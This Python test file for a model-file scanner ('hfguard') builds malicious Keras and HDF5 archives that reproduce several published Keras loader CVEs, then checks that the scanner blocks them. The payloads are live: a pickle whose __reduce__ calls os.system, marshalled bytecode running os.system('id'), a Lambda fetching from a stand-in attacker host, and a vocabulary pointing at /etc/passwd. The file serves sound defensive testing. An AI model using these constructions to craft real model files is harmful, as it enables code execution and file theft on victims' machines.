"""The Keras loader CVEs as named regression tests: each builds the published technique into a real
.keras archive (or legacy .h5) and expects static.keras to BLOCK it; benign twins PASS or only FLAG."""

from __future__ import annotations

import base64
import io
import json
import marshal
import os
import zipfile
from pathlib import Path

import h5py
import torch

from hfguard.engine import scan
from hfguard.findings import Severity, Verdict
from hfguard.policy import Policy
from hfguard.static.formats.keras import KerasCheck
from hfguard.target import local_target


def _model(*layers: dict) -> dict:
    inp = {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
           "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"}}
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": [inp, *layers]}}


def _layer(cls: str, config: dict, module: str = "keras.layers") -> dict:
    return {"module": module, "class_name": cls, "registered_name": None, "config": config}


def _keras(path: Path, config: dict) -> Path:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("metadata.json", json.dumps({"keras_version": "3.11.1"}))
        zf.writestr("config.json", json.dumps(config))
    return path


def _scan(path: Path):
    report = scan(local_target([str(path)]), Policy(), [KerasCheck()])
    return report, {f.rule: f for f in report.all_findings()}


class _Payload:
    """What a torch.save'd 'module' carries in the published CVE-2025-49655 proof of concept."""

    def __init__(self, mark: str) -> None:
        self.mark = mark

    def __reduce__(self):
        return os.system, (f"touch {self.mark}",)


def _torch_b64(obj: object) -> str:
    buf = io.BytesIO()
    torch.save(obj, buf)
    return base64.b64encode(buf.getvalue()).decode("ascii")


def test_cve_2025_1550(tmp_path):
    """config.json names an arbitrary module and function; Keras < 3.9 imported and called it."""
    layer = {"module": "subprocess", "class_name": "function", "registered_name": "function",
             "config": "Popen"}
    report, found = _scan(_keras(tmp_path / "m.keras", _model(_layer("Dense", {"units": 2,
                                                                                  "activation": layer}))))
    f = found["keras/module-outside-keras"]
    assert f.severity >= Severity.HIGH and "CVE-2025-1550" in f.evidence["advisories"]
    assert report.verdict is Verdict.BLOCK


def test_cve_2025_8747(tmp_path):
    """A Lambda whose function is keras.utils.get_file: fetches and writes files during the load."""
    fn = {"module": "keras.utils", "class_name": "function", "config": "get_file",
          "registered_name": "function"}
    lam = _layer("Lambda", {"name": "x", "function": fn,
                            "arguments": {"origin": "http://attacker.invalid/x", "fname": "/tmp/x"}})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(lam)))
    assert found["keras/dangerous-function"].severity is Severity.CRITICAL
    assert report.verdict is Verdict.BLOCK


def test_cve_2025_9905(tmp_path):
    """Legacy HDF5 loading ignores safe_mode: a Lambda's marshalled bytecode runs."""
    code = base64.encodebytes(marshal.dumps(compile("import os\nos.system('id')\n", "<l>", "exec"))).decode()
    lam = _layer("Lambda", {"name": "l", "function": [code, None, None], "function_type": "lambda"})
    path = tmp_path / "m.h5"
    with h5py.File(path, "w") as f:
        f.attrs["model_config"] = json.dumps(_model(lam)).encode()
    report, found = _scan(path)
    f = found["keras/lambda-bytecode"]
    assert f.severity is Severity.CRITICAL and "CVE-2025-9905" in f.evidence["advisories"]
    assert report.verdict is Verdict.BLOCK


def test_cve_2025_9906(tmp_path):
    """A config that calls keras.config.enable_unsafe_deserialization switches safe_mode off mid-load."""
    fn = {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
          "registered_name": "function"}
    lam = _layer("Lambda", {"name": "u", "function": fn})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(lam)))
    assert {"keras/unsafe-deserialization", "keras/dangerous-function"} <= set(found)
    assert report.verdict is Verdict.BLOCK


def test_cve_2025_49655(tmp_path):
    """TorchModuleWrapper's base64 'module' is a torch pickle; Keras 3.11.0-3.11.2 torch.loaded it in
    safe mode. The pickle scanner sees os.system inside."""
    mark = tmp_path / "PWNED"
    wrapper = _layer("TorchModuleWrapper", {"name": "t", "module": _torch_b64(_Payload(str(mark)))})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(wrapper)))
    f = found["keras/torch-module-pickle"]
    assert f.severity is Severity.CRITICAL and "posix.system" in f.message + json.dumps(f.evidence)
    assert report.verdict is Verdict.BLOCK and not mark.exists()


def test_torch_module_wrapper_of_a_stock_layer_is_only_flagged(tmp_path):
    wrapper = _layer("TorchModuleWrapper", {"name": "t", "module": _torch_b64(torch.nn.Linear(4, 2))})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(wrapper)))
    assert found["keras/torch-module-pickle"].severity is Severity.MEDIUM
    assert report.verdict is Verdict.FLAG


def test_cve_2026_1462(tmp_path):
    """TFSMLayer loads a TensorFlow SavedModel from a path in the config, even with safe_mode=True."""
    tfsm = _layer("TFSMLayer", {"name": "t", "filepath": "/tmp/attacker_savedmodel",
                                "call_endpoint": "serving_default"})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(tfsm)))
    f = found["keras/tfsmlayer-external"]
    assert f.evidence["filepath"] == "/tmp/attacker_savedmodel"
    assert "CVE-2026-1462" in f.evidence["advisories"]
    assert report.verdict is Verdict.BLOCK


def test_plain_dense_model_passes(tmp_path):
    report, found = _scan(_keras(tmp_path / "m.keras", _model(_layer("Dense", {"name": "d", "units": 2}))))
    assert report.verdict is Verdict.PASS, found


def test_cve_2025_12058(tmp_path):
    """GHSA-qg93-c7p6-gg7f: StringLookup's vocabulary names a local file (or URL) read at load, even in
    safe mode; the real .keras format keeps vocabularies in assets/, never as a path."""
    lookup = _layer("StringLookup", {"name": "s", "vocabulary": "/etc/passwd", "num_oov_indices": 1})
    report, found = _scan(_keras(tmp_path / "m.keras", _model(lookup)))
    f = found["keras/vocabulary-file"]
    assert f.evidence["vocabulary"] == "/etc/passwd" and "CVE-2025-12058" in f.evidence["advisories"]
    assert report.verdict is Verdict.BLOCK
    inline = _layer("StringLookup", {"name": "s", "vocabulary": ["a", "b"], "num_oov_indices": 1})
    assert _scan(_keras(tmp_path / "ok.keras", _model(inline)))[0].verdict is Verdict.PASS
